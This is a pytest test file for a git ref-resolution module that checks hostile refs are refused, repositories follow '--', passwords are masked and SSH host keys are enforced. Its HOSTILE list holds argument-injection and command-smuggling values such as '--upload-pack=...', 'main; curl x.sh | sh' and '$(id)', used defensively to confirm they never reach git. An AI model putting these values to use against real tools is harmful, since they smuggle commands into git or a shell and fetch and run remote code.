"""A ref reaches git only past the allow-list and in full; a repository only after ``--``."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path

import pytest

from lightship.config.repository import Repository
from lightship.errors import RefusedError, UsageError
from lightship.source.remote import git_environment, hide_password, ls_remote_command, parse_ls_remote, resolve

A, B = "a" * 40, "b" * 40
HOSTILE = [
    "--upload-pack=touch /tmp/p;git-upload-pack",
    "--exec=touch /tmp/p",
    "main; curl x.sh | sh",
    "$(id)",
    "+refs/*:refs/*",
    "HEAD@{1}",
    "HEAD",
    "a.lock",
    "../../etc",
    "/etc",
    "main\n",
    "ma\x1bin",
    "",
    "*",
    "x" * 5000,
]


@pytest.mark.parametrize("ref", HOSTILE)
def test_a_hostile_ref_never_reaches_git(ref: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError):
        asyncio.run(resolve(Repository(str(tmp_path / "none.git")), ref))


def test_the_command_names_refs_in_full_after_the_mark() -> None:
    command = ls_remote_command(Repository("/srv/git/shop.git"), "main")
    assert command == [
        "git", "ls-remote", "--", "/srv/git/shop.git", "refs/heads/main", "refs/tags/main", "refs/tags/main^{}",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("output", "ref", "commit"),
    [
        (f"{A}\trefs/heads/main\n", "main", A),
        (f"{A}\trefs/tags/v1\n{B}\trefs/tags/v1^{{}}\n", "v1", B),
        (f"{A}\trefs/heads/x/main\n", "main", None),
        (f"{A}\trefs/heads/v1\n{B}\trefs/tags/v1\n", "refs/tags/v1", B),
        ("warning: nonsense\n", "main", None),
    ],
)
def test_only_the_exact_name_counts(output: str, ref: str, commit: str | None) -> None:
    found = parse_ls_remote(output, ref)
    assert (found.commit if found else None) == commit


def test_a_name_of_a_branch_and_a_tag_is_refused() -> None:
    with pytest.raises(UsageError, match="both a branch"):
        parse_ls_remote(f"{A}\trefs/heads/v1\n{B}\trefs/tags/v1\n", "v1")


def test_a_full_commit_is_taken_as_it_is() -> None:
    found = asyncio.run(resolve(Repository("/nowhere"), A))
    assert (found.commit, found.kind) == (A, "commit")


def test_git_asks_nobody_and_runs_no_foreign_transport() -> None:
    environment = git_environment({"GIT_DIR": "/x", "PATH": "/bin"})
    assert environment["GIT_TERMINAL_PROMPT"] == "0"
    assert "ext" not in environment["GIT_ALLOW_PROTOCOL"].split(":")
    assert "GIT_DIR" not in environment


def test_a_real_repository(tmp_path: Path) -> None:
    run = ["git", "-C", str(tmp_path), "-c", "user.name=t", "-c", "user.email=t@e"]
    for words in (
        ["init", "-q", "-b", "main"],
        ["commit", "-q", "--allow-empty", "-m", "x"],
        ["tag", "-am", "x", "v1"],
    ):
        subprocess.run([*run, *words], check=True)
    head = subprocess.run([*run, "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
    repository = Repository(str(tmp_path))
    assert asyncio.run(resolve(repository, "main")).commit == head
    assert asyncio.run(resolve(repository, "v1")).commit == head
    with pytest.raises(UsageError, match="no branch or tag"):
        asyncio.run(resolve(repository, "nope"))


def test_a_repository_that_cannot_be_read_is_a_refusal(tmp_path: Path) -> None:
    with pytest.raises(RefusedError) as caught:
        asyncio.run(resolve(Repository(str(tmp_path / "none.git")), "main"))
    assert caught.value.exit_status == 3


def test_a_password_is_not_shown() -> None:
    assert "tok3n" not in hide_password("fatal: https://u:tok3n@host/r not found")


def test_the_git_hosts_key_has_to_be_known() -> None:
    assert "StrictHostKeyChecking=yes" in git_environment({})["GIT_SSH_COMMAND"]
    assert git_environment({"GIT_SSH_COMMAND": "ssh -i key"})["GIT_SSH_COMMAND"] == "ssh -i key"
    assert "GIT_SSH_COMMAND" not in git_environment({"GIT_SSH": "/usr/local/bin/ssh"})
